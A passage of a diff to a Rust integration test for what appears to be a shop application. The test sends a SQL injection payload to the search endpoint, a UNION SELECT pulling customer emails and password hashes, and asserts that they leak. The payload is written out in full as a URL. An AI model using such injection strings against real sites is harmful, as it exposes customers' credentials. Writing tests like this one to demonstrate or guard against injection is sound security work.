@@ -5,9 +5,10 @@ use crate::client::open;
 #[tokio::test]
 async fn a_union_in_the_search_leaks_addresses_and_password_checksums() {
     let shop = open().await;
-    let leak = "/search?q='%20UNION%20SELECT%20'x',%20email,%20password_hash,%200%20FROM%20customers%20--";
+    let leak = "/search?q=zzz'%20UNION%20SELECT%20'x',%20email,%20password_hash,%200%20FROM%20customers%20--";
     let answer = shop.browser().get(leak).await;
     assert_eq!(answer.status, 200);
+    answer.shows("6 found");
     answer.shows("nora@example.com");
     let checksums = answer.body.split("<p>").filter(|text| {
         text.split('<')
